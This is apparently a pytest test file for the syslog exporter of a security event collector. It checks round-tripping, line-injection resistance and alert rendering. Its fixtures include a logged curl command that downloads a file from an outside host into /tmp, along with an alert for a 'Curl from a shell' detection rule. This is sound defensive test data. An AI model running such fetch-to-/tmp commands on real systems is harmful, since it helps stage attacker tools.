import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tramgac_collector.export.formats.syslog import BOM, Syslog, escape, severity, stamp
from tramgac_collector.export.records import EVENT, OWN, Record

from tests.collector.export import made, readers

TEXT = st.text(st.characters(codec="utf-8") | st.sampled_from(made.NASTY))


def told(record: Record) -> dict[str, object]:
    """What a reader knows of an event's fields afterwards."""
    message = readers.syslog(Syslog().encode(record))
    known: dict[str, object] = {}
    for name, value in message.data["event@32473"]:
        if name in record.row and isinstance(record.row[name], list):
            known.setdefault(name, []).append(value)
        else:
            known[name] = value
    for name, value in message.data.get("event_data@32473", ()):
        known[f"winlog.event_data.{name}"] = value
    return known | json.loads(str(known.pop("other", "{}")))


def plain(value: object) -> object:
    if isinstance(value, list):
        return [plain(each) for each in value]
    return str(value).lower() if isinstance(value, bool) else str(value)


@pytest.mark.parametrize("record", made.events(), ids=lambda record: record.row["kind"])
def test_what_is_read_back_is_what_went_in(record):
    known = told(record)
    data = record.row.get("winlog.event_data", {})
    fields = {name: value for name, value in record.row.items() if name not in {*OWN, "winlog.event_data"}}
    assert {name: plain(known[name]) for name in fields} == {name: plain(value) for name, value in fields.items()}
    assert {name: known[f"winlog.event_data.{name}"] for name in data} == data
    assert known["event.id"] == record.id
    assert known["time"] == record.row["time"]


@settings(max_examples=40)
@given(st.dictionaries(TEXT.filter(bool), TEXT, max_size=4), TEXT, st.lists(TEXT, max_size=3))
def test_whatever_a_host_writes_comes_back_and_no_line_of_it_begins_another(data, text, values):
    row = made.record_of(made.event_of(made.channel)).row
    row = {**row, "message": text, "winlog.values": values, "winlog.event_data": data}
    record = Record(EVENT, "h/1/2/3", made.TIME, row)
    line = Syslog().encode(record)
    assert not {10, 13, 0} & set(line)
    assert len(line.decode().splitlines()) == 1
    known = told(record)
    assert known["message"] == text
    assert known.get("winlog.values", []) == values
    assert {name: known[f"winlog.event_data.{name}"] for name in data} == data


@given(TEXT)
def test_a_value_ends_nowhere_before_its_end(text):
    assert readers.restored(escape(text)) == text
    assert readers.syslog(f'<0>1 - - - - - [a@1 b="{escape(text)}"] c'.encode()).data == {"a@1": [("b", text)]}


def test_the_header_and_the_text():
    message = readers.syslog(Syslog(facility=13).encode(made.events()[0]))
    assert message[:5] == (13 * 8 + 6, "2026-09-21T14:13:20.123456Z", "pc-17", "tramgac", "process_start")
    assert message.text == f"{BOM}process_start curl 'http://a.vn/?x=1|2' -o /tmp/a"


def test_an_alert_says_its_rule_its_state_and_its_first_event():
    message = readers.syslog(Syslog(enterprise=4711).encode(made.alert()))
    assert message.pri == 16 * 8 + 3
    alert, event = message.data["alert@4711"], dict(message.data["event@4711"])
    assert dict(alert)["rule.id"] == made.alert().row["rule"]["id"]
    assert [value for name, value in alert if name == "technique"] == ["T1059.004", "T1105"]
    assert event["process.executable"] == "/usr/bin/curl"
    assert message.text == f"{BOM}high: Curl | from a shell: curl 'http://a.vn/?x=1|2' -o /tmp/a"


@pytest.mark.parametrize(("name", "told"), [("máy trạm", "m?y?tr?m"), ("", made.HOST), ("a" * 300, "a" * 255)])
def test_a_host_s_name_is_one_word_of_ascii(name, told):
    record = made.events()[0]
    record = Record(EVENT, record.id, record.time, {**record.row, "hostname": name})
    message = readers.syslog(Syslog().encode(record))
    assert message.host == told
    assert ("host.name", name) in message.data["event@32473"]


def test_another_format_s_line_stands_behind_a_header():
    wrapped = Syslog().wrap(made.alert(), b"CEF:0|x")
    assert wrapped == b"<131>1 2026-09-21T14:13:20.123456Z pc-17 tramgac - alert - CEF:0|x"
    assert readers.syslog(Syslog().wrap(made.events()[0], b"CEF:0|x")).text == "CEF:0|x"


def test_times_have_six_decimals_at_most_and_an_unknown_level_is_a_warning():
    assert stamp("1970-01-01T00:00:01.999999999Z") == "1970-01-01T00:00:01.999999Z"
    assert stamp("1970-01-01T00:00:01.999Z") == "1970-01-01T00:00:01.999Z"
    assert stamp("1970-01-01T00:00:01Z") == "1970-01-01T00:00:01Z"
    assert severity("nothing") == 4
